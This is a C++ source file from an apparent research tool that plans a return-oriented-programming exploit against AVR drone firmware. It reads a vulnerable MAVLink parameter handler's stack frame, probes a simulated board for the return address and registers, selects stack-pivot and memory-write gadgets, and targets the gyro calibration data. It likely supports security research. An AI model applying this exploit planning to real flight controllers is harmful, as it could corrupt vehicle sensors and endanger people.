#include "attack/attacks.hpp"

#include <algorithm>

#include "avr/walk.hpp"
#include "mavlink/mavlink.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "support/error.hpp"

namespace mavr::attack {

using avr::Op;

std::uint16_t parse_frame_bytes(const toolchain::Image& image,
                                std::uint32_t fn_byte_addr) {
  // Walk the prologue: pushes, then `in r28/r29`, then either
  // `sbiw r28, k` or `subi r28, lo ; sbci r29, hi`.
  const std::span<const std::uint8_t> code(image.bytes);
  std::uint16_t lo = 0;
  std::uint16_t frame = 0;
  int steps = 0;
  avr::for_each_instr(
      code.subspan(std::min<std::size_t>(fn_byte_addr, code.size())),
      fn_byte_addr, [&](std::uint32_t, const avr::Instr& in) {
        if (in.op == Op::Sbiw && in.rd == 28) {
          frame = in.k;
          return false;
        }
        if (in.op == Op::Subi && in.rd == 28) {
          lo = in.k;
        } else if (in.op == Op::Sbci && in.rd == 29) {
          frame = static_cast<std::uint16_t>(lo | (in.k << 8));
          return false;
        } else if (in.op != Op::Push && in.op != Op::In) {
          return false;  // past the prologue
        }
        return ++steps < 40;
      });
  return frame;
}

VictimFrame probe_victim(const toolchain::Image& stock_image,
                         std::uint32_t handler_byte_addr,
                         std::uint16_t frame_bytes) {
  sim::Board replica;
  replica.flash_image(stock_image.bytes);
  replica.run_cycles(300'000);  // boot and settle

  sim::GroundStation gcs(replica);
  mavlink::ParamSet benign;
  gcs.send_param_set(benign);

  // Captures the frame at the handler's first instruction: on_retire sees
  // the Cpu with pc() at the next instruction to execute.
  struct EntryProbe : avr::Tracer {
    std::uint32_t entry_word = 0;
    VictimFrame* frame = nullptr;
    bool captured = false;
    void on_retire(const avr::Cpu& cpu, std::uint32_t, const avr::Instr&,
                   std::uint32_t) override {
      if (captured || cpu.pc() != entry_word) return;
      captured = true;
      frame->p = cpu.sp();
      for (unsigned r = 0; r < 32; ++r) frame->regs_at_entry[r] = cpu.reg(r);
      for (unsigned i = 0; i < 3; ++i) {
        frame->ret_bytes[i] = cpu.data().raw(frame->p + 1 + i);
      }
    }
  };
  VictimFrame frame;
  frame.frame_bytes = frame_bytes;
  EntryProbe probe;
  probe.entry_word = handler_byte_addr / 2;
  probe.frame = &frame;
  replica.cpu().set_tracer(&probe);
  replica.run_cycles(3'000'000);
  replica.cpu().set_tracer(nullptr);
  const bool captured = probe.captured;
  MAVR_REQUIRE(captured, "probe never reached the vulnerable handler");
  frame.buffer_addr = static_cast<std::uint16_t>(frame.p - frame_bytes - 1);
  frame.ram_end = static_cast<std::uint16_t>(replica.cpu().spec().ramend());
  return frame;
}

AttackPlan analyze(const toolchain::Image& stock_image) {
  AttackPlan plan;
  GadgetFinder finder(stock_image);
  plan.census = finder.census();
  MAVR_REQUIRE(!finder.stk_moves().empty(), "no stk_move gadget found");
  MAVR_REQUIRE(!finder.write_mems().empty(), "no write_mem gadget found");

  // Prefer a stk_move with few pops: less stack to repair on the way out.
  plan.stk = finder.stk_moves().front();
  for (const StkMoveGadget& g : finder.stk_moves()) {
    if (g.pops.size() < plan.stk.pops.size()) plan.stk = g;
  }
  plan.wm = finder.write_mems().front();

  const toolchain::Symbol* handler = stock_image.find("h_param_set");
  MAVR_REQUIRE(handler != nullptr, "vulnerable handler symbol missing");
  const std::uint16_t frame_bytes =
      parse_frame_bytes(stock_image, handler->addr);
  MAVR_REQUIRE(frame_bytes > 8, "handler frame parse failed");
  plan.frame = probe_victim(stock_image, handler->addr, frame_bytes);

  if (const toolchain::DataSymbol* cal = stock_image.find_data("g_gyro_cal")) {
    plan.gyro_cal_addr = cal->ram_addr;
  }
  return plan;
}

}  // namespace mavr::attack
